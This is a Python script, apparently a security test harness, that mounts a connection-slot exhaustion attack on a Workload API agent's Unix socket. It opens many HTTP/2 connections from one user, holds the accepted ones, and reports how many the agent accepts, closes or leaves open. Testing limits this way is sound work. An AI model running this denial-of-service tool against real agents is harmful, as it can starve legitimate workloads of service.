"""Connection-slot attack: one uid opens many Workload API connections and holds them.

usage: hold_connections.py SOCKET_PATH COUNT

Opens COUNT connections to the agent, sends each the HTTP/2 client preface and an empty
SETTINGS frame, and sorts them by what the agent does: it answers with its own SETTINGS (the
connection was accepted and is being served) or closes the connection. Prints
{"accepted": N, "closed": M}, then holds every accepted connection until standard input closes,
and prints {"still_open": K}: how many of them the agent had not closed by then.
"""

import json
import resource
import selectors
import socket
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
EMPTY_SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


def main() -> int:
    path, count = sys.argv[1], int(sys.argv[2])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    socks = []
    for _ in range(count):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(30)
        s.connect(path)
        s.sendall(PREFACE + EMPTY_SETTINGS)
        socks.append(s)
    sel = selectors.DefaultSelector()
    for s in socks:
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
    accepted, closed = [], 0
    pending = len(socks)
    while pending:
        events = sel.select(timeout=30)
        if not events:
            print(json.dumps({"error": f"{pending} connections got no answer in 30 s"}), flush=True)
            return 1
        for key, _ in events:
            s = key.fileobj
            sel.unregister(s)
            pending -= 1
            try:
                data = s.recv(4096)
            except (ConnectionResetError, BrokenPipeError):
                data = b""
            if data:
                accepted.append(s)
            else:
                closed += 1
                s.close()
    print(json.dumps({"accepted": len(accepted), "closed": closed}), flush=True)
    sys.stdin.read()
    still_open = 0
    for s in accepted:
        try:
            still_open += 1 if s.recv(65536) else 0
        except BlockingIOError:
            still_open += 1  # nothing to read and not closed
        except (ConnectionResetError, BrokenPipeError):
            pass
    print(json.dumps({"still_open": still_open}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
